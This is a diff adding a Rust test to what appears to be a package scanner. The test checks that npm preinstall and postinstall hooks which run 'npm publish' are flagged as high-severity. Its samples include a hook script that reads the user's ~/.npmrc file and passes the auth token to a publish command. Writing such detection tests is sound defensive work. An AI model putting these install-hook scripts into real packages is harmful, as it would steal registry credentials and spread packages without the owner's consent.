@@ -95,3 +95,30 @@ fn code_that_is_too_large_to_be_read_is_said() {
     let (found, _) = look("demo-1.0.0.crate", cargo, "demo-1.0.0/build.rs", b"fn main() {}\n");
     assert_eq!(found, None);
 }
+
+/// However the client is started: what is refused is that an installation publishes.
+#[test]
+fn an_installation_that_publishes_is_refused() {
+    let found = |hook: &str, script: &str| {
+        let manifest =
+            format!(r#"{{"name": "demo", "version": "1.0.0", "main": "x.js", "scripts": {{"{hook}": "node x.js"}}}}"#);
+        let items =
+            [Item::file("package/package.json", manifest.as_bytes()), Item::file("package/x.js", script.as_bytes())];
+        let report = look_local(&gzip(&tar(&items)), "demo-1.0.0.tgz");
+        report.findings.iter().any(|found| {
+            found.detector == "install-script"
+                && (found.severity, found.confidence) == (Severity::High, Confidence::High)
+                && found.title.contains("published")
+        })
+    };
+    for script in [
+        "require('child_process').execSync('npm publish');",
+        "require('child_process').spawnSync('npm', ['publish', '--access', 'public']);",
+        "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n\
+         require('child_process').execSync(`npm publish --//registry.example/:_authToken=${t}`);",
+    ] {
+        assert!(found("postinstall", script) && found("preinstall", script), "{script}");
+        assert!(!found("prepublish", script) && !found("test", script), "{script}");
+    }
+    assert!(!found("postinstall", "require('child_process').execSync('npm run build');"));
+}
